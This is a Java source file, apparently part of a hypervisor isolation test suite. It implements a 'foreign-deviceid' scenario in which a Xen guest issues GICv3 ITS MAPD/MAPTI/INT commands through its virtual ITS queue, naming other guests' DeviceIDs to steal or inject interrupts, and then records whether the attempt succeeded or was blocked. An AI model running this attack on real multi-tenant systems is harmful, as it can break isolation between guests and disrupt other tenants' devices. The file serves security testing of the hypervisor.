package org.trapdoor.attack;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

import org.trapdoor.api.attack.AttackResult;
import org.trapdoor.api.attack.Evidence;
import org.trapdoor.api.dt.DtNode;
import org.trapdoor.api.dt.IdMap;
import org.trapdoor.api.guest.GuestMsiVector;
import org.trapdoor.api.guest.GuestPciDevice;

/**
 * (e) Under {@code vits}: the attacker writes ITS commands into the command queue its own kernel
 * set up (in its own memory, at GITS_CBASER) naming DeviceIDs it does not own: for each,
 * {@code MAPD} (an ITT in its own RAM), {@code MAPTI} of event 0 to one of its own LPIs and
 * {@code INT} of that event, then {@code MAPD V=0} to clean up; it advances GITS_CWRITER as its
 * kernel's {@code its_send_single_command} would. Then the victim's device raises its vector.
 */
final class ForeignDeviceId extends Scenario {
    private static final long GITS_CBASER = 0x80, GITS_CWRITER = 0x88, GITS_CREADR = 0x90;
    private static final int CMD_INT = 0x03, CMD_MAPD = 0x08, CMD_MAPTI = 0x0a;
    /** DeviceIDs tried: the first 64 (every requester ID of buses 0 and the first slots), minus its own. */
    private static final int TRIED = 64;
    private static final int ITT_BYTES = 1024;

    ForeignDeviceId(Platform p) {
        super(p);
    }

    @Override
    public String name() {
        return "foreign-deviceid";
    }

    @Override
    public String description() {
        return "under vits: MAPD/MAPTI/INT through its virtual ITS's queue naming DeviceIDs it does not own";
    }

    @Override
    public String criterion() {
        return "SUCCEEDED if an INT on a foreign DeviceID reaches its LPI (its kernel's count), or the victim's "
                + "next message is not handled by the victim (victim kernel vs. victim device); BLOCKED otherwise";
    }

    @Override
    AttackResult attack(Attacker a) {
        String msi = a.policy(p.hv(), "domu-msi");
        DtNode its = a.node("arm,gic-v3-its");
        if (its == null || its.reg().isEmpty() || !"vits".equals(msi)) {
            throw new NotApplicable("the DomU has no virtual ITS in force (domu-msi " + msi + ")");
        }
        long base = its.reg().get(0).address();
        long cbaser = a.ipa.read(base + GITS_CBASER, 8);
        if (cbaser >= 0) { // bit 63: Valid
            throw new NotApplicable("its kernel never set up the virtual ITS's command queue");
        }
        GuestMsiVector lpi = a.vectors().stream().filter(v -> v.target() == GuestMsiVector.Target.LPI).findFirst()
                .orElseThrow(() -> new NotApplicable("its kernel set up no LPI to aim the foreign events at"));
        Queue q = new Queue(a, base, cbaser);
        Set<Long> own = ownDeviceIds(a);
        long itt = ittAddress(a);
        long[] saved = new long[ITT_BYTES / 8];
        for (int i = 0; i < saved.length; i++) {
            saved[i] = a.ipa.read(itt + 8L * i, 8);
        }
        Victim v;
        try {
            v = Victim.of(p.hv(), a);
        } catch (NotApplicable none) {
            v = null;
        }
        long[] tried = {0};
        long[] consumed = {0};
        Readings r = new Readings()
                .add("foreign DeviceIDs named in MAPD/MAPTI/INT", () -> tried[0])
                .add("commands its virtual ITS consumed (GITS_CREADR)", () -> consumed[0])
                .add("its LPI " + lpi.intid() + " handled (its kernel)", () -> a.handled(lpi.intid()))
                .add("physical interrupts taken (Xen ledger)", () -> xenLedger().fired())
                .before();
        for (long id = 0; id < TRIED; id++) {
            if (own.contains(id)) {
                continue;
            }
            tried[0]++;
            consumed[0] += q.send(mapd(id, itt, true), mapti(id, 0, lpi.intid(), 0), interrupt(id, 0));
        }
        Settle.quiet(() -> a.handled(lpi.intid()));
        List<Evidence> e = new ArrayList<>(r.after());
        boolean succeeded = e.get(2).delta() > 0;
        if (v != null) {
            Victim victim = v;
            Readings vr = new Readings()
                    .add("then " + v.label() + " sent (victim device)", victim::sent)
                    .add("then " + v.label() + " handled (victim kernel)", victim::handled)
                    .add("then its LPI " + lpi.intid() + " handled (its kernel)", () -> a.handled(lpi.intid()))
                    .before();
            victim.raise();
            Settle.quiet(victim::handled);
            List<Evidence> ve = vr.after();
            e.addAll(ve);
            succeeded |= ve.get(1).delta() < ve.get(0).delta() || ve.get(2).delta() > 0;
        }
        for (long id = 0; id < TRIED; id++) { // its own mess cleaned up: unmap what it asked to map
            if (!own.contains(id)) {
                q.send(mapd(id, 0, false));
            }
        }
        for (int i = 0; i < saved.length; i++) {
            a.ipa.write(itt + 8L * i, 8, saved[i]);
        }
        return result(a, succeeded, succeeded ? "an event on a DeviceID it does not own reached it, or the victim lost one"
                : "no event on a foreign DeviceID reached it and the victim kept its interrupts", e);
    }

    /** Its own virtual DeviceIDs: its functions' requester IDs through its vPCI node's msi-map. */
    private static Set<Long> ownDeviceIds(Attacker a) {
        Set<Long> own = new HashSet<>();
        DtNode host = null;
        for (DtNode n : a.tree.nodes()) {
            if (n.path().equals(a.device.host())) {
                host = n;
            }
        }
        IdMap map = host == null ? null : IdMap.msiMap(host);
        for (GuestPciDevice d : a.kernel.pciDevices()) {
            own.add(map == null ? d.requesterId() : map.map(d.requesterId()).id());
        }
        return own;
    }

    /** An ITT in its own RAM: 64 KiB below the top of its last RAM bank, 256-byte aligned. */
    private static long ittAddress(Attacker a) {
        var banks = a.ram();
        if (banks.isEmpty()) {
            throw new NotApplicable("its tree names no RAM");
        }
        return (banks.get(banks.size() - 1).end() - 0x1_0000) & ~0xffL;
    }

    private static long[] mapd(long deviceId, long itt, boolean valid) {
        return new long[] {CMD_MAPD | deviceId << 32, 4 /* 5 bits of EventID */,
            (itt & 0x000f_ffff_ffff_ff00L) | (valid ? 1L << 63 : 0), 0};
    }

    private static long[] mapti(long deviceId, int event, int lpi, int icid) {
        return new long[] {CMD_MAPTI | deviceId << 32, (event & 0xffff_ffffL) | (long) lpi << 32, icid, 0};
    }

    private static long[] interrupt(long deviceId, int event) {
        return new long[] {CMD_INT | deviceId << 32, event & 0xffff_ffffL, 0, 0};
    }

    /** The guest's command queue in its own memory, driven through GITS_CWRITER/GITS_CREADR. */
    private static final class Queue {
        private final Attacker a;
        private final long its;
        private final long base;
        private final long size;

        Queue(Attacker a, long its, long cbaser) {
            this.a = a;
            this.its = its;
            this.base = cbaser & 0x000f_ffff_ffff_f000L;
            this.size = ((cbaser & 0xff) + 1) * 4096;
        }

        /** Writes the commands at CWRITER, advances it, waits for CREADR to follow; returns the commands consumed. */
        long send(long[]... commands) {
            long start = a.ipa.read(its + GITS_CREADR, 8) & 0xf_ffe0L;
            long w = a.ipa.read(its + GITS_CWRITER, 8) & 0xf_ffe0L;
            for (long[] c : commands) {
                for (int i = 0; i < 4; i++) {
                    a.ipa.write(base + w + 8L * i, 8, c[i]);
                }
                w = (w + 32) % size;
            }
            a.ipa.write(its + GITS_CWRITER, 8, w);
            long end = System.currentTimeMillis() + 200;
            long rd = a.ipa.read(its + GITS_CREADR, 8) & 0xf_ffe0L;
            while (rd != w && System.currentTimeMillis() < end) {
                Thread.onSpinWait();
                rd = a.ipa.read(its + GITS_CREADR, 8) & 0xf_ffe0L;
            }
            return ((rd - start + size) % size) / 32;
        }
    }
}
